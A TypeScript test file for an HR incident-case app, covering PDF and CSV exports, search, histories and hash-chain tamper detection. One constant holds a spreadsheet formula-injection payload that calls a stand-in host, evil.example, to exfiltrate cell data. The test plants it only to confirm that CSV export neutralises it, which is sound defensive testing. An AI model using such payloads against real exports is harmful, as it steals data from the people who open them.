import { spawnSync } from "node:child_process";
import { parse } from "csv-parse/sync";
import { beforeAll, describe, expect, it } from "vitest";
import { extractPdfText } from "../fixtures/pdf-text";
import { recordDecision } from "~/models/decision.server";
import {
  recordProtectiveAction,
  recordSanction,
  updateAction,
} from "~/models/incident-handling.server";
import { createIncident } from "~/models/incident.server";
import { SEARCH_PAGE_SIZE } from "~/models/incident-search.server";
import * as caseFileRoute from "~/routes/cases.$reference.case-file";
import * as listRoute from "~/routes/hr.cases";
import * as csvRoute from "~/routes/hr.cases.csv";
import * as hrAccountRoute from "~/routes/hr.accounts.$id";
import * as historyRoute from "~/routes/hr.employees.$id";
import * as verifyRoute from "~/routes/hr.verify";
import { call, getRequest, loginCookie, postRequest } from "../fixtures/http";
import { createTestOrg, orgForThisFile } from "../fixtures/org";
import { TEST_APP_URL } from "../fixtures/database";

// HR review: the PDF case file, CSV lists without formula injection, and tamper evidence
// (a row edited in the database is named by the verify page and the CLI).

const { db, org } = await orgForThisFile("hr");
let hrCookie: string;
let ref: string;
let id: string;
let tamperedRef: string;
let tamperedId: string;

const INJECTION = '=HYPERLINK("http://evil.example/steal?d="&A1,"Click for details")';

beforeAll(async () => {
  const base = {
    reporterId: org.employeeA.id,
    accountId: org.account.id,
    occurredAt: new Date(),
    channel: "EMAIL" as const,
    severity: "HIGH" as const,
    categories: ["THREATS" as const],
  };
  ({ reference: ref, id } = await createIncident(db, {
    ...base,
    narrative: `${INJECTION} and then threatened me by email.`,
  }));
  await recordProtectiveAction(db, {
    incidentId: id,
    actorId: org.managerA.id,
    type: "COUNSELLING",
  });
  await recordSanction(db, { incidentId: id, actorId: org.managerA.id, type: "WRITTEN_WARNING" });
  await db.evidence.create({
    data: {
      incidentId: id,
      fileName: "threat-email.png",
      storedName: "00000000-0000-4000-8000-000000000001",
      mimeType: "image/png",
      sizeBytes: 10,
      sha256: "c0ffee".padEnd(64, "0"),
      uploadedById: org.employeeA.id,
    },
  });
  ({ reference: tamperedRef, id: tamperedId } = await createIncident(db, {
    ...base,
    narrative: "A second report whose timeline someone edits.",
  }));
  await recordSanction(db, {
    incidentId: tamperedId,
    actorId: org.managerA.id,
    type: "RECORD_FACTS",
  });
  hrCookie = await loginCookie(org.hr.email);
});

async function get(
  fn: (a: never) => unknown,
  path: string,
  params: Record<string, string>,
  cookie = hrCookie,
) {
  try {
    const r = await (fn as (a: unknown) => Promise<unknown>)({
      request: getRequest(path, cookie),
      params,
      context: {},
    });
    return r as Response | Record<string, unknown>;
  } catch (thrown) {
    if (thrown instanceof Response) return thrown;
    throw thrown;
  }
}

async function post(
  fn: (a: never) => unknown,
  path: string,
  params: Record<string, string>,
  cookie = hrCookie,
) {
  try {
    return (await (fn as (a: unknown) => Promise<unknown>)({
      request: postRequest(path, {}, { cookie }),
      params,
      context: {},
    })) as Response;
  } catch (thrown) {
    if (thrown instanceof Response) return thrown;
    throw thrown;
  }
}

describe("exports", () => {
  it("changes nothing on a GET (a link from anywhere): exports are POSTs from a button", async () => {
    const before = await db.caseEvent.count({ where: { type: "EXPORTED" } });
    for (const fn of [caseFileRoute.loader, csvRoute.loader]) {
      const res = (await get(fn, `/cases/${ref}/case-file`, { reference: ref })) as Response;
      expect(res.status).toBe(405);
      expect(res.headers.get("Allow")).toBe("POST");
    }
    expect(await db.caseEvent.count({ where: { type: "EXPORTED" } })).toBe(before);
  });

  it("gives HR the case file as a PDF with timeline, actions, evidence hashes; the export is on the timeline", async () => {
    const res = await post(caseFileRoute.action, `/cases/${ref}/case-file`, { reference: ref });
    expect(res.status).toBe(200);
    expect(res.headers.get("Content-Type")).toBe("application/pdf");
    // (Wrapped lines joined again: where a line breaks depends on the font's widths.)
    const text = (await extractPdfText(new Uint8Array(await res.arrayBuffer()))).replace(
      /\n/g,
      " ",
    );
    expect(text).toContain(`Case file ${ref}`);
    expect(text).toContain("and then threatened me by email.");
    expect(text).toContain("Protective: Counselling");
    expect(text).toContain("Written warning to the customer");
    expect(text).toContain(`SHA-256 ${"c0ffee".padEnd(64, "0")}`);
    expect(text).toContain("threat-email.png");
    expect(text).toContain("Report submitted");
    expect(text).toMatch(/Hash chain verified: \d+ events, unbroken\./);
    const exported = await db.caseEvent.findFirstOrThrow({
      where: { incidentId: id, type: "EXPORTED" },
    });
    expect(exported.actorId).toBe(org.hr.id);
  });

  it("refuses the case file to the manager handling the case (HR exports for counsel)", async () => {
    const manager = await loginCookie(org.managerA.email);
    const res = await post(
      caseFileRoute.action,
      `/cases/${ref}/case-file`,
      { reference: ref },
      manager,
    );
    expect(res.status).toBe(404);
  });

  it("writes CSV lists in which a report starting with =HYPERLINK( is plain text", async () => {
    const res = await post(csvRoute.action, `/hr/cases/csv`, {});
    expect(res.status).toBe(200);
    expect(res.headers.get("Content-Type")).toMatch(/^text\/csv/);
    const csv = (await res.text()).replace(/^\uFEFF/, "");
    const rows = parse(csv) as string[][];
    const header = rows[0];
    const row = rows.find((r) => r[0] === ref)!;
    const narrative = row[header.indexOf("What happened")];
    expect(narrative.startsWith("'=HYPERLINK(")).toBe(true);
    // Human labels, with the codes in their own columns.
    const cell = (name: string) => row[header.indexOf(name)];
    expect(cell("Category codes")).toMatch(/^[A-Z_; ]+$/);
    expect(cell("Categories")).not.toMatch(/[A-Z]{2,}_/);
    expect(cell("Status")).not.toBe(cell("Status code"));
    expect(cell("Severity code")).toMatch(/^(LOW|MEDIUM|HIGH|CRITICAL)$/);
    for (const r of rows) for (const cell of r) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(await db.caseEvent.count({ where: { incidentId: id, type: "EXPORTED" } })).toBe(2);
  });

  it("writes headings in the downloader's language, codes the same in every language", async () => {
    const download = async (language: string) => {
      await db.user.update({ where: { id: org.hr.id }, data: { language } });
      const res = await post(csvRoute.action, `/hr/cases/csv`, {});
      const rows = parse((await res.text()).replace(/^\uFEFF/, "")) as string[][];
      const pdf = await post(caseFileRoute.action, `/cases/${ref}/case-file`, { reference: ref });
      const pdfText = await extractPdfText(new Uint8Array(await pdf.arrayBuffer()));
      return { header: rows[0], row: rows.find((r) => r[0] === ref)!, pdfText };
    };
    try {
      const es = await download("es");
      expect(es.header.slice(0, 5)).toEqual([
        "Referencia",
        "Informado",
        "Ocurrió",
        "Estado",
        "Código de estado",
      ]);
      expect(es.pdfText).toContain(`Expediente del caso ${ref}`);
      expect(es.pdfText).toContain("Resumen");
      const ja = await download("ja");
      expect(ja.header[0]).toBe("案件番号");
      expect(ja.header[4]).toBe("状況コード");
      // The same codes whatever the language; the labels beside them follow it.
      expect(ja.row[4]).toBe(es.row[4]);
      expect(ja.row[10]).toBe(es.row[10]);
      expect(ja.row[3]).not.toBe(es.row[3]);
      // The PDF font has no Japanese glyphs: a Japanese reader's case file is in English.
      expect(ja.pdfText).toContain(`Case file ${ref}`);
      expect(ja.pdfText).toContain("Summary");
    } finally {
      await db.user.update({ where: { id: org.hr.id }, data: { language: "en" } });
    }
  });
});

describe("the case list", () => {
  type List = {
    rows: { reference: string }[];
    moreHref: string | null;
    searchError: string | null;
  };
  const list = async (search: string) => {
    const res = await call(listRoute.loader, getRequest(`/hr/cases${search}`, hrCookie));
    expect(res.status).toBe(200);
    return res.body as List;
  };

  it("finds cases by words from the report, the employee's name and the reference", async () => {
    const byWords = await list("?q=threatened+ME+by");
    expect(byWords.rows.map((r) => r.reference)).toEqual([ref]);
    const byName = await list(`?q=${encodeURIComponent(org.employeeA.name.split(" ")[0])}`);
    expect(byName.rows.map((r) => r.reference).sort()).toEqual([ref, tamperedRef].sort());
    expect((await list(`?q=${tamperedRef}`)).rows.map((r) => r.reference)).toEqual([tamperedRef]);
    expect((await list("?q=nothing+like+this")).rows).toEqual([]);
  });

  it("pages through every case by its link to older cases", async () => {
    const base = {
      reporterId: org.employeeB.id,
      accountId: org.account.id,
      channel: "PHONE" as const,
      severity: "LOW" as const,
      categories: ["VERBAL_ABUSE" as const],
      narrative: "One of many short calls.",
    };
    for (let i = 0; i < 101; i++) {
      await createIncident(db, { ...base, occurredAt: new Date(Date.UTC(2026, 0, 1, 0, i)) });
    }
    const seen: string[] = [];
    let search: string | null = "?q=short+calls";
    let pages = 0;
    while (search) {
      const page = await list(search);
      seen.push(...page.rows.map((r) => r.reference));
      search = page.moreHref;
      pages++;
    }
    expect(pages).toBe(Math.ceil(101 / SEARCH_PAGE_SIZE));
    expect(seen).toHaveLength(101);
    expect(new Set(seen).size).toBe(101);
  });

  it("streams a CSV of more cases than one batch, each case's export on its timeline", async () => {
    const res = await post(csvRoute.action, `/hr/cases/csv?q=short+calls`, {});
    expect(res.status).toBe(200);
    const rows = parse((await res.text()).replace(/^\uFEFF/, "")) as string[][];
    expect(rows[0][0]).toBe("Reference");
    const refs = rows.slice(1).map((r) => r[0]);
    expect(new Set(refs).size).toBe(101);
    const cases = await db.incident.findMany({
      where: { reference: { in: refs } },
      select: { events: { where: { type: "EXPORTED" }, select: { data: true } } },
    });
    expect(cases).toHaveLength(101);
    for (const c of cases) expect(c.events.map((e) => JSON.parse(e.data).format)).toEqual(["CSV"]);
  });
});

describe("histories", () => {
  it("shows HR everything an employee reported and the support given", async () => {
    const body = (await get(historyRoute.loader, `/hr/employees/${org.employeeA.id}`, {
      id: org.employeeA.id,
    })) as { cases: { reference: string }[]; support: { type: string }[] };
    expect(body.cases.map((c) => c.reference).sort()).toEqual([ref, tamperedRef].sort());
    expect(body.support.map((s) => s.type)).toEqual(["COUNSELLING"]);
  });
});

describe("tamper evidence", () => {
  it("names the edited row on the verify page and in the CLI; intact chains pass", async () => {
    const ok = (await get(verifyRoute.loader, `/hr/verify?all=1`, {})) as {
      broken: unknown[];
      checked: number;
    };
    expect(ok.broken).toEqual([]);
    expect(ok.checked).toBeGreaterThanOrEqual(2);

    // Someone with database access softens the wording of event 2 of the second case.
    const target = await db.caseEvent.findFirstOrThrow({
      where: { incidentId: tamperedId, seq: 2 },
    });
    const changed = await db.$executeRawUnsafe(
      `UPDATE "CaseEvent" SET "data" = '{"edited":true}' WHERE "id" = '${target.id}'`,
    );
    expect(changed).toBe(1);

    const all = (await get(verifyRoute.loader, `/hr/verify?all=1`, {})) as {
      broken: { reference: string; seq: number; reason: string }[];
    };
    expect(all.broken).toEqual([
      { reference: tamperedRef, seq: 2, reason: "the event was changed after it was written" },
    ]);
    const one = (await get(verifyRoute.loader, `/hr/verify?reference=${tamperedRef}`, {})) as {
      broken: { seq: number }[];
    };
    expect(one.broken.map((b) => b.seq)).toEqual([2]);
    const intact = (await get(verifyRoute.loader, `/hr/verify?reference=${ref}`, {})) as {
      broken: unknown[];
    };
    expect(intact.broken).toEqual([]);

    const cli = spawnSync("npx", ["tsx", "scripts/verify-chains.ts"], {
      env: { ...process.env, APP_URL: TEST_APP_URL },
      encoding: "utf8",
      timeout: 120_000,
    });
    expect(cli.stdout).toContain(
      `BROKEN ${tamperedRef} seq 2: the event was changed after it was written`,
    );
    expect(cli.stdout).not.toContain(`BROKEN ${ref} `);
    expect(cli.status).toBe(1);
  });
});

describe("an HR person named in a case", () => {
  it("sees on the account history neither its decision, nor its sanction's outcome", async () => {
    const o = await createTestOrg(db, "hrnamed");
    const { id: caseId } = await createIncident(db, {
      reporterId: o.employeeA.id,
      accountId: o.account.id,
      occurredAt: new Date(),
      channel: "PHONE",
      severity: "HIGH",
      categories: ["THREATS"],
      narrative: "The caller threatened me; HR colleague Hana was the one he asked for.",
      namedUserIds: [o.hr2.id],
    });
    const sanction = await recordSanction(db, {
      incidentId: caseId,
      actorId: o.managerA.id,
      type: "WRITTEN_WARNING",
    });
    await updateAction(db, {
      incidentId: caseId,
      actorId: o.managerA.id,
      actionId: sanction.id,
      status: "DONE",
      outcome: "Warning letter sent after the call recording was reviewed",
    });
    await recordDecision(db, {
      incidentId: caseId,
      actorId: o.hr.id,
      decision: "CONDITIONS",
      rationale: "Conditions set because of the recorded threats",
      approverId: o.leadership.id,
      employeesConsulted: true,
    });
    const path = `/hr/accounts/${o.account.id}`;
    const seenBy = async (email: string) =>
      JSON.stringify(
        await get(hrAccountRoute.loader, path, { id: o.account.id }, await loginCookie(email)),
      );

    const other = await seenBy(o.hr.email);
    expect(other).toContain("Conditions set because of the recorded threats");
    expect(other).toContain("Warning letter sent after the call recording");

    const named = await seenBy(o.hr2.email);
    expect(named).toContain(o.account.name); // the account itself is still theirs to see
    expect(named).not.toContain("Conditions set because of the recorded threats");
    expect(named).not.toContain("Warning letter sent");
    expect(named).not.toContain("Written warning");
    expect(named).not.toContain("Keep under conditions");
  });
});
